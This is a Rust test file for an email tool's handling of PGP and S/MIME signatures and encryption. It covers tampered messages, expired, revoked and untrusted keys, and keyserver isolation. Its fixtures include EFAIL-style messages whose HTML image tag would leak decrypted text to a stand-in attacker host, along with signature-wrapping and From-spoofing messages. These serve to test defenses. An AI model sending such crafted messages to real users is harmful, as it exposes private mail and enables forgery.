//! Signed and encrypted messages as `ehlo show` and `ehlo verify` report them: messages of this program, of gpg and of
//! openssl, whole and changed, with keys that are trusted, unknown, expired and revoked.

use crate::authority::Authority;
use crate::crypt::{LETTER, World, ways};
use crate::executable::write_script;
use serde_json::Value;
use std::fs;
use std::net::TcpListener;

/// Trusts the CA of the test.
fn trusting(world: &World) -> String {
    world.path("ca.crt").display().to_string()
}

fn shown(world: &World, arguments: &[&str]) -> Value {
    let ca = trusting(world);
    let all = [&["show", "--json"], arguments].concat();
    let ran = world.ehlo_with(&all, None, &[("SSL_CERT_FILE", &ca)]);
    ran.ends_with(0);
    serde_json::from_slice(&ran.stdout).unwrap()
}

/// Kind, standard, result and signature of each layer.
fn layers(shown: &Value) -> Vec<(String, Value, Value)> {
    let layers = shown["layers"].as_array().unwrap().iter();
    layers
        .map(|layer| {
            let text = |name: &str| layer[name].as_str().unwrap().to_owned();
            let name = format!("{} {}", text("standard"), text("kind"));
            (name, layer["ok"].clone(), layer["valid"].clone())
        })
        .collect()
}

fn text(shown: &Value) -> &str {
    shown["text"].as_str().unwrap()
}

#[test]
fn messages_are_decrypted_and_their_signers_are_named() {
    let Some(world) = World::new(1) else { return };
    let bob = ["--decrypt-key", "bob.pem"];
    for way in ways() {
        let hide: &[&str] = if way.options.contains(&"--encrypt") {
            &["--hide-subject"]
        } else {
            &[]
        };
        let carol = ["--cc", "carol@hamburger.edu"];
        let options = [&LETTER[..], way.options, hide, &carol].concat();
        world.printed(&options, "outer.eml");
        let shown = shown(&world, &[&["outer.eml"][..], &bob].concat());
        let place = format!("{:?}: {shown}", way.options);
        assert_eq!(text(&shown).trim_end(), "secret text", "{place}");
        assert_eq!(shown["subject"], "secret subject", "{place}");
        assert_eq!(shown["to"][0]["address"], "bob@hamburger.edu", "{place}");
        let is_encrypted = way.options.contains(&"--encrypt");
        let is_signed = way.options.contains(&"--sign");
        let standard = if way.options.contains(&"smime") {
            "smime"
        } else {
            "pgp"
        };
        let mut expected = Vec::new();
        if is_encrypted {
            expected.push((format!("{standard} encryption"), true.into(), true.into()));
        }
        if is_signed {
            expected.push((format!("{standard} signature"), true.into(), true.into()));
            let signer = &shown["layers"].as_array().unwrap().last().unwrap()["signer"];
            assert_eq!(signer["addresses"][0], "alice@crepes.fr", "{place}");
            assert_eq!(
                (&signer["trusted"], &signer["author"]),
                (&true.into(), &true.into())
            );
        }
        assert_eq!(layers(&shown), expected, "{place}");
        let raw = world.ehlo(&["show", "--no-decrypt", "outer.eml"], None);
        raw.ends_with(0).hides("signature: ").hides("decrypted");
        if is_encrypted {
            raw.hides("secret");
        }
    }
}

/// Messages that other programs make: opaque signatures, AES-GCM, line ends of Unix, a part within the signed part.
const FOREIGN: &str = "\
printf 'Content-Type: text/plain\\r\\n\\r\\nsecret text\\r\\n' >body
head='From: alice@crepes.fr\\nTo: bob@hamburger.edu\\nSubject: s\\nMIME-Version: 1.0\\n'
cms() { printf \"$head\"; printf 'Content-Type: application/pkcs7-mime; name=smime.p7m\\nContent-Transfer-Encoding: base64\\n\\n'; base64; }
openssl cms -sign -binary -nodetach -outform DER -signer alice.pem -inkey alice.pem -in body | tee signed.der | cms >opaque.eml
openssl cms -encrypt -binary -aes-256-gcm -outform DER -in body bob.crt | cms >gcm.eml
{ printf 'Content-Type: application/pkcs7-mime; smime-type=signed-data\\r\\nContent-Transfer-Encoding: base64\\r\\n\\r\\n'; base64 signed.der; } |
    openssl cms -encrypt -binary -stream -outform DER carol.crt bob.crt | cms >both.eml
openssl cms -sign -binary -nodetach -signer alice.pem -inkey alice.pem -in body -outform DER |
    sed 's/secret text/secret next/' | cms >opaque_changed.eml
gpg --batch -u alice@crepes.fr --armor --detach-sign -o sig body
{ printf \"$head\"; printf 'Content-Type: multipart/signed; boundary=b; micalg=pgp-sha512;\\n protocol=\"application/pgp-signature\"\\n\\n'
  printf 'preamble\\n--bb\\n--b x\\n--b \\n'; tr -d '\\r' <body; printf '\\n--b\\nContent-Type: application/pgp-signature\\n\\n'; cat sig; printf '\\n--b--\\n'; } >unix.eml
sed 's/secret text/secret next/' unix.eml >changed.eml
";

#[test]
fn messages_of_other_programs_are_read() {
    let Some(world) = World::new(1) else { return };
    world.succeeds(FOREIGN);
    let bob = ["--decrypt-key", "bob.pem"];
    let (encryption, signature) = ("smime encryption", "smime signature");
    let cases: [(&str, &[&str], Value); 4] = [
        ("opaque.eml", &[signature], true.into()),
        ("gcm.eml", &[encryption], true.into()),
        ("both.eml", &[encryption, signature], true.into()),
        ("unix.eml", &["pgp signature"], true.into()),
    ];
    for (name, expected, ok) in cases {
        let shown = shown(&world, &[&[name][..], &bob].concat());
        assert_eq!(text(&shown).trim_end(), "secret text", "{name}: {shown}");
        let expected = expected
            .iter()
            .map(|layer| ((*layer).to_owned(), ok.clone(), ok.clone()));
        assert_eq!(
            layers(&shown),
            expected.collect::<Vec<_>>(),
            "{name}: {shown}"
        );
    }
    for name in ["changed.eml", "opaque_changed.eml"] {
        let shown = shown(&world, &[name]);
        let layer = &shown["layers"][0];
        assert_eq!(
            (&layer["ok"], &layer["valid"]),
            (&false.into(), &false.into()),
            "{shown}"
        );
        assert_eq!(layer["signer"], Value::Null, "{shown}");
    }
}

/// Keys that expired or were revoked after they signed; a key that nobody vouches for; one of somebody else.
const SIGNERS: &str = "\
q() { gpg --batch -q --pinentry-mode loopback --passphrase '' \"$@\"; }
sign() { q --local-user \"<$1@crepes.fr>\" $2 --armor --detach-sign --output $1.sig body; letter $1 $1; }
letter() {
    { printf 'From: %s@crepes.fr\\r\\nContent-Type: multipart/signed; boundary=b; protocol=\"application/pgp-signature\"\\r\\n\\r\\n--b\\r\\n' $2
      cat body; printf '\\r\\n--b\\r\\nContent-Type: application/pgp-signature\\r\\n\\r\\n'; cat $1.sig; printf '\\r\\n--b--\\r\\n'; } >$1.eml
}
printf 'Content-Type: text/plain\\r\\n\\r\\nsecret text' >body
for name in late gone stranger mallory; do q --quick-gen-key \"$name <$name@crepes.fr>\" ed25519 sign never; done
q --faked-system-time 20200101T000000 --quick-gen-key 'late <old@crepes.fr>' ed25519 sign 2d
sign gone; sign stranger; sign mallory
q --faked-system-time 20200101T100000 --local-user '<old@crepes.fr>' --armor --detach-sign --output old.sig body
letter old old; letter mallory alice
fpr=$(gpg --list-keys --with-colons gone@crepes.fr | awk -F: '/^fpr/{print $10;exit}')
sed 's/^:---/---/' g/openpgp-revocs.d/$fpr.rev >rev
q --import rev
gpg --export stranger@crepes.fr >stranger.gpg
q --yes --delete-secret-and-public-key $(gpg --list-keys --with-colons stranger@crepes.fr | awk -F: '/^fpr/{print $10;exit}')
";

#[test]
fn signatures_that_must_not_be_believed_are_not_ok() {
    let Some(world) = World::new(1) else { return };
    world.succeeds(SIGNERS);
    let (yes, no, open): (Value, Value, Value) = (true.into(), false.into(), Value::Null);
    let check = |name: &str, ok: &Value, valid: &Value, words: &str| {
        let shown = shown(&world, &[name]);
        let layer = &shown["layers"][0];
        assert_eq!(
            (&layer["ok"], &layer["valid"]),
            (ok, valid),
            "{name}: {shown}"
        );
        assert!(
            layer["text"].as_str().unwrap().contains(words),
            "{name}: {shown}"
        );
        layer["signer"].clone()
    };
    check("old.eml", &no, &no, "the key has expired");
    check("gone.eml", &no, &no, "the key is revoked");
    check("stranger.eml", &open, &open, "is not in the keyring");
    world.succeeds("gpg --batch -q --import stranger.gpg");
    let signer = check("stranger.eml", &open, &yes, "the key is not trusted");
    assert_eq!(
        (&signer["trusted"], &signer["author"]),
        (&no, &yes),
        "{signer}"
    );
    let signer = check(
        "mallory.eml",
        &open,
        &yes,
        "it is for mallory@crepes.fr, not for the author in From",
    );
    assert_eq!(
        (&signer["trusted"], &signer["author"]),
        (&yes, &no),
        "{signer}"
    );
}

#[test]
fn certificates_that_must_not_be_believed_are_not_ok() {
    let Some(world) = World::new(1) else { return };
    let letter = [&LETTER[..], &["--sign", "smime", "--sign-key", "alice.pem"]];
    world.printed(&letter.concat(), "s.eml");
    // Without the CA of the test.
    let ran = world.ehlo(&["show", "s.eml"], None);
    ran.ends_with(0)
        .shows("  -       S/MIME signature: valid, by CN=alice")
        .shows("not trusted");
    // Of somebody else.
    world.succeeds("sed 's/From: alice@/From: eve@/' s.eml >eve.eml");
    let shown = shown(&world, &["eve.eml"]);
    let layer = &shown["layers"][0];
    assert_eq!(
        (&layer["ok"], &layer["valid"]),
        (&Value::Null, &true.into()),
        "{shown}"
    );
    assert!(
        layer["text"]
            .as_str()
            .unwrap()
            .contains("not for the author in From"),
        "{shown}"
    );
}

#[test]
fn content_is_not_shown_without_a_key_or_if_it_was_damaged() {
    let Some(world) = World::new(1) else { return };
    let pgp = [&LETTER[..], &["--encrypt", "pgp"]].concat();
    world.printed(&pgp, "p.eml");
    let smime = [
        &LETTER[..],
        &["--encrypt", "smime", "--encrypt-key", "bob.crt"],
    ]
    .concat();
    world.printed(&smime, "s.eml");
    world.succeeds(
        "mkdir -m 700 empty; python3 - <<'END'\n\
        octets = bytearray(open('p.eml', 'rb').read())\n\
        end = octets.index(b'-----END PGP')\n\
        octets[end - 60:end - 50] = b'AAAAAAAAAA'\n\
        open('cut.eml', 'wb').write(octets)\nEND",
    );
    let empty = world.path("empty").display().to_string();
    let check = |arguments: &[&str], more: &[(&str, &str)], words: &str| {
        let ran = world.ehlo_with(&[&["show"][..], arguments].concat(), None, more);
        ran.ends_with(0).hides("secret text").shows(words);
    };
    check(
        &["p.eml"],
        &[("GNUPGHOME", &empty)],
        "is for 1 key, of which the keyring has no secret key",
    );
    check(&["cut.eml"], &[], "not decrypted: the content is damaged");
    check(&["s.eml"], &[], "--decrypt-key FILE");
    check(
        &["s.eml", "--decrypt-key", "carol.pem"],
        &[],
        "not decrypted",
    );
    check(
        &["s.eml", "--decrypt-key", "absent.pem"],
        &[],
        "not decrypted",
    );
    check(
        &["p.eml"],
        &[("PATH", "/nonexistent")],
        "cannot run gpg: No such file or directory; install it",
    );
    check(
        &["s.eml", "--decrypt-key", "bob.pem"],
        &[("PATH", "/nonexistent")],
        "cannot run openssl",
    );
    for (script, words) in [
        ("exec sleep 600", "did nothing for 1 seconds"),
        ("kill -9 $$", "not decrypted"),
        (
            "cat >/dev/null; echo 'Content-Type: text/plain'; echo; echo secret text; exit 2",
            "not decrypted",
        ),
        (
            "cat >/dev/null; echo; echo secret text; echo '[GNUPG:] DECRYPTION_FAILED' >&2; echo '[GNUPG:] DECRYPTION_OKAY' >&2",
            "not decrypted",
        ),
    ] {
        fs::create_dir_all(world.path("bin")).unwrap();
        write_script(&world.path("bin/gpg"), format!("#!/bin/sh\n{script}\n"));
        let path = format!("{}:/usr/bin:/bin", world.path("bin").display());
        check(
            &["p.eml"],
            &[("PATH", &path), ("EHLO_CRYPT_IDLE", "1")],
            words,
        );
    }
}

#[test]
fn unknown_keys_are_not_fetched() {
    let Some(world) = World::new(1) else { return };
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    world.printed(&[&LETTER[..], &["--sign", "pgp"]].concat(), "s.eml");
    world.succeeds(&format!(
        "mkdir -m 700 empty; echo 'keyserver hkp://127.0.0.1:{port}' >empty/dirmngr.conf; \
         printf 'auto-key-retrieve\\nauto-key-import\\nverbose\\n' >empty/gpg.conf"
    ));
    let empty = world.path("empty").display().to_string();
    let ran = world.ehlo_with(&["show", "s.eml"], None, &[("GNUPGHOME", &empty)]);
    ran.ends_with(0).shows("is not in the keyring");
    assert!(listener.accept().is_err(), "a key was asked for");
}

#[test]
fn verify_reports_the_author_and_fails_if_the_content_was_changed() {
    let Some(world) = World::new(1) else { return };
    world.printed(&[&LETTER[..], &["--sign", "pgp"]].concat(), "s.eml");
    world.succeeds("sed 's/secret text/secret next/' s.eml >changed.eml");
    let dns = Authority::serve(&[
        "crepes.fr TXT \"v=spf1 ip4:127.0.0.1 -all\"",
        "_dmarc.crepes.fr TXT \"v=DMARC1; p=none\"",
    ]);
    let dns = dns.address.to_string();
    let fixed = [
        "verify",
        "--dns",
        &dns,
        "--from-ip",
        "127.0.0.1",
        "--envelope-from",
        "alice@crepes.fr",
    ];
    let whole = world.ehlo(&[&fixed[..], &["s.eml"]].concat(), None);
    whole
        .ends_with(0)
        .shows("pgp    signature: valid, by Alice <alice@crepes.fr>");
    let changed = world.ehlo(&[&fixed[..], &["--json", "changed.eml"]].concat(), None);
    changed.ends_with(77);
    let report: Value = serde_json::from_slice(&changed.stdout).unwrap();
    assert_eq!(report["dmarc"]["result"], "pass", "{report}");
    assert_eq!(report["layers"][0]["valid"], false, "{report}");
    assert_eq!(report["spf"]["result"], "pass", "{report}");
}

#[test]
fn messages_of_many_megabytes_are_decrypted_in_little_memory() {
    let Some(world) = World::new(1) else { return };
    world.succeeds("head -c 6000000 /dev/urandom >large.bin");
    for way in [
        &["--sign", "pgp", "--encrypt", "pgp"][..],
        &["--encrypt", "smime", "--encrypt-key", "bob.crt"],
    ] {
        let options = [&LETTER[..], way, &["-a", "large.bin"]].concat();
        world.printed(&options, "large.eml");
        let part = [
            "show",
            "--part",
            "2",
            "large.eml",
            "--decrypt-key",
            "bob.pem",
        ];
        let ran = world.ehlo(&part, None);
        ran.ends_with(0);
        assert!(ran.stdout == fs::read(world.path("large.bin")).unwrap());
        assert!(ran.peak_kib < 16 * 1024, "{} KiB", ran.peak_kib);
    }
}

#[test]
fn key_without_a_terminal_is_not_waited_for() {
    let Some(world) = World::new(1) else { return };
    world.succeeds(
        "gpg --batch --yes --pinentry-mode loopback --passphrase secret --quick-gen-key 'Pass <pass@crepes.fr>' future-default default never; \
         gpgconf --kill gpg-agent",
    );
    let letter = [
        "-f",
        "alice@crepes.fr",
        "pass@crepes.fr",
        "-b",
        "secret text",
        "--encrypt",
        "pgp",
    ];
    world.printed(&letter, "p.eml");
    let ran = world.ehlo(&["show", "p.eml"], None);
    ran.ends_with(0).hides("secret text").shows("not decrypted");
}

/// Messages in which a signed or encrypted entity of alice is not the whole message, or not in one reading of it.
const WRAPPED: &str = r#"
gpg --batch -q --armor -u alice@crepes.fr --detach-sign -o hp.sig hp
gpg --batch -q --armor --trust-model always -r bob@hamburger.edu --encrypt -o wrapped.asc mixed
openssl cms -sign -binary -nodetach -outform DER -signer alice.pem -inkey alice.pem -in body | base64 >opaque
python3 - <<'END'
import re
octets = lambda name: open(name, "rb").read().replace(b"\r\n", b"\n")
def split(name):
    head, body = octets(name).split(b"\n\n", 1)
    content = re.search(rb"(?mi)^Content-Type:.*\n([ \t].*\n)*", head + b"\n").group(0)
    return content + b"\n" + body
HEAD = b"To: bob@hamburger.edu\nSubject: s\nMIME-Version: 1.0\n"
ALICE = b"From: alice@crepes.fr\n"
EVIL = b"Content-Type: text/plain\n\npay to mallory\n"
def mixed(*parts, kind=b"mixed"):
    return b"Content-Type: multipart/" + kind + b"; boundary=out\n\n" + b"".join(b"--out\n" + part + b"\n" for part in parts) + b"--out--\n"
def write(name, author, entity):
    open(name, "wb").write(author + HEAD + entity)
message = b"Content-Type: message/rfc822\n\n"
signed, sealed = split("s.eml"), split("p.eml")
write("footer.eml", ALICE, mixed(signed, EVIL))
write("deep.eml", ALICE, mixed(EVIL, mixed(EVIL, signed).replace(b"out", b"inn")))
write("forward.eml", b"From: mallory@crepes.fr\n", mixed(EVIL, message + octets("s.eml")))
write("digest.eml", b"From: mallory@crepes.fr\n", mixed(b"\n" + octets("s.eml"), kind=b"digest"))
write("alone.eml", ALICE, message + octets("s.eml"))
write("smime.eml", ALICE, mixed(EVIL, split("m.eml")))
write("opaque.eml", ALICE, mixed(EVIL, b"Content-Type: application/pkcs7-mime; smime-type=signed-data\nContent-Transfer-Encoding: base64\n\n" + octets("opaque")))
write("changed.eml", ALICE, mixed(signed.replace(b"secret text", b"secret next"), EVIL))
write("efail.eml", ALICE, mixed(b"Content-Type: text/html\n\n<img src=\"http://mallory.example/?", sealed, b"Content-Type: text/html\n\n\">\n"))
write("efail_smime.eml", ALICE, mixed(b"Content-Type: text/html\n\n<img src=\"http://mallory.example/?", b"Content-Transfer-Encoding: base64\n" + split("e.eml")))
boundary = re.search(rb"boundary=\"?([^\";\n]+)", signed).group(1)
third = signed.replace(b"--" + boundary + b"--", b"--" + boundary + b"\n" + EVIL + b"--" + boundary + b"--")
assert third != signed
write("third.eml", ALICE, third)
write("boss.eml", b"From: boss@crepes.fr, alice@crepes.fr\n", signed)
write("twice.eml", b"From: boss@crepes.fr\nFrom: alice@crepes.fr\n", signed)
def pgp(content, author):
    write("out", author, b"Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=out\n\n--out\n" + content + b"\n--out\nContent-Type: application/pgp-signature\n\n" + octets("hp.sig") + b"\n--out--\n")
pgp(octets("hp"), ALICE); import os; os.rename("out", "hp.eml")
write("wrapped.eml", ALICE, b"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=out\n\n--out\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--out\nContent-Type: application/octet-stream\n\n" + octets("wrapped.asc") + b"\n--out--\n")
END
"#;

#[test]
fn signature_of_a_part_is_never_one_of_the_message() {
    let Some(world) = World::new(1) else { return };
    let letter = |name: &str, options: &[&str]| {
        world.printed(&[&LETTER[..], options].concat(), name);
    };
    letter("s.eml", &["--sign", "pgp"]);
    letter("p.eml", &["--encrypt", "pgp"]);
    letter("m.eml", &["--sign", "smime", "--sign-key", "alice.pem"]);
    letter("e.eml", &["--encrypt", "smime", "--encrypt-key", "bob.crt"]);
    fs::write(
        world.path("hp"),
        "Content-Type: text/plain; hp=\"clear\"\r\nFrom: boss@crepes.fr\r\nSubject: inner\r\n\r\nsecret text",
    )
    .unwrap();
    fs::write(
        world.path("body"),
        "Content-Type: text/plain\r\n\r\nsecret text\r\n",
    )
    .unwrap();
    world.succeeds(
        "{ printf 'Content-Type: multipart/mixed; boundary=mix\\n\\n--mix\\n\\npay to mallory\\n--mix\\n'; \
         tr -d '\\r' <s.eml | sed -n '/^Content-Type: multipart/,$p'; printf '\\n--mix--\\n'; } >mixed",
    );
    world.succeeds(WRAPPED);
    let (yes, no, open): (Value, Value, Value) = (true.into(), false.into(), Value::Null);
    let one = |name: &'static str, ok, valid, part, author| (name, ok, valid, part, author);
    let cases = [
        one("footer.eml", &open, &yes, "1", Some(true)),
        one("deep.eml", &open, &yes, "2.2", Some(true)),
        // alice wrote what is forwarded.
        one("forward.eml", &open, &yes, "2", Some(true)),
        one("digest.eml", &open, &yes, "1", Some(true)),
        one("alone.eml", &open, &yes, "1", Some(true)),
        one("smime.eml", &open, &yes, "2", Some(true)),
        one("opaque.eml", &open, &yes, "2", Some(true)),
        one("changed.eml", &no, &no, "1", None),
        one("efail.eml", &open, &open, "2", None),
        one("efail_smime.eml", &open, &open, "2", None),
        one("third.eml", &no, &no, "", None),
        one("boss.eml", &open, &yes, "", Some(false)),
        one("twice.eml", &open, &yes, "", Some(false)),
    ];
    for (name, ok, valid, part, author) in cases {
        let shown = shown(&world, &[name, "--decrypt-key", "bob.pem"]);
        let place = format!("{name}: {shown}");
        let layers = shown["layers"].as_array().unwrap();
        assert_eq!(layers.len(), 1, "{place}");
        let layer = &layers[0];
        assert_eq!((&layer["ok"], &layer["valid"]), (ok, valid), "{place}");
        assert_eq!(layer["part"].as_str().unwrap_or_default(), part, "{place}");
        let text = layer["text"].as_str().unwrap();
        let prefix = format!("covers only part {part} of the message: ");
        assert_eq!(text.starts_with(&prefix), !part.is_empty(), "{place}");
        assert_eq!(layer["signer"]["author"].as_bool(), author, "{place}");
        if name.starts_with("efail") {
            assert!(!shown.to_string().contains("secret text"), "{place}");
            assert!(
                text.contains("not decrypted, because the message has other parts"),
                "{place}"
            );
        }
    }
    // Decrypted, but signed in part only.
    let wrapped = shown(&world, &["wrapped.eml"]);
    assert_eq!(
        layers(&wrapped),
        [
            ("pgp encryption".to_owned(), yes.clone(), yes.clone()),
            ("pgp signature".to_owned(), open.clone(), yes.clone())
        ],
        "{wrapped}"
    );
    assert_eq!(wrapped["layers"][1]["part"], "2", "{wrapped}");
    // The signed header cannot name an author who is not the signer.
    let protected = shown(&world, &["hp.eml"]);
    assert_eq!(protected["layers"][0]["ok"], yes, "{protected}");
    assert_eq!(protected["subject"], "inner", "{protected}");
    assert_eq!(
        protected["from"][0]["address"], "alice@crepes.fr",
        "{protected}"
    );
    let ran = world.ehlo(&["show", "footer.eml"], None);
    ran.ends_with(0)
        .shows("  -       OpenPGP signature: covers only part 1 of the message: valid, by Alice")
        .shows("pay to mallory");
}
